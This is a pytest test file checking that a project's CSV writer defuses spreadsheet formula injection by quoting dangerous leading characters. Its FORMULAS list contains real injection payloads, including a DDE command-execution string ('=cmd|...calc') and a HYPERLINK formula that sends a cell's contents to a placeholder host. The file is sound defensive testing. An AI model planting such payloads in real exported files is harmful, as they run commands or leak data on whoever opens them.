"""CSV files that a spreadsheet opens without computing anything, and that read as they were written."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helm_structext.results.spreadsheets import csv_rows, csv_text
from helm_structext.results.tabular import Column, Table
from support import ROOT

FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"http://a/?\"&A1,\"b\")",
    "+1",
    "-1",
    "-x",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "'=1",
    "''=1",
    "\ufeff=1",
    "\0=1",
    "\u200b@a",
    "＝1+1",
    "－2",
    "=cmd|' /C calc'!A0",
]  # fmt: skip
NAMES = ["gpt-4o", "a=b", "o'=1", "'quoted'", "", " ", "x\n=1", "a,b", 'a"b', "5", "meta/llama@3"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text_wherever_it_stands(text):
    written = cells(csv_text([[text, "b"], ["a", text]]))
    assert written == [[f"'{text}", "b"], ["a", f"'{text}"]]


@pytest.mark.parametrize("text", NAMES)
def test_other_texts_stay_as_they_are(text):
    assert cells(csv_text([[text, "b"]])) == [[text, "b"]]


def test_numbers_stay_numbers():
    numbers = [-0.5, -3, 0.0, -0.0, 1 / 3, 1e-9, float("nan"), None, 10**20, True]
    written = csv_text([numbers])
    assert written == f"-0.5,-3,0.0,0.0,0.333333,0.0,,,{10**20},True\n"


hostile = st.text(st.sampled_from("=+-@'\t\r\n ,\"a0\0\ufeff＝")) | st.text()


@given(
    st.lists(hostile, min_size=1, max_size=4, unique=True),
    st.lists(hostile, min_size=4, max_size=4),
)
def test_what_is_written_is_read_as_it_was(header, row):
    text = csv_text([header, row[: len(header)]])
    assert csv_rows(text) == [dict(zip(header, row, strict=False))]
    assert all(
        cell.lstrip("' ")[:1] not in tuple("=+-@") or cell[0] == "'"
        for line in cells(text)
        for cell in line
    )


def test_columns_and_names_of_a_table_are_cells_too():
    table = Table(
        "t", "T", "", [Column("Model"), Column("=A1")], [["@a", -0.25], ["-b", (-1, -0.5)]]
    )
    assert table.csv() == "Model,'=A1 low,'=A1 high\n'@a,,\n'-b,-1,-0.5\n"


def test_no_other_module_writes_csv():
    writers = ("csv.writer", "DictWriter", ".to_csv(", "savetxt")
    found = [
        file.name
        for file in (ROOT / "src").glob("**/*.py")
        if any(name in file.read_text(encoding="utf-8") for name in writers)
    ]
    assert found == ["spreadsheets.py"]
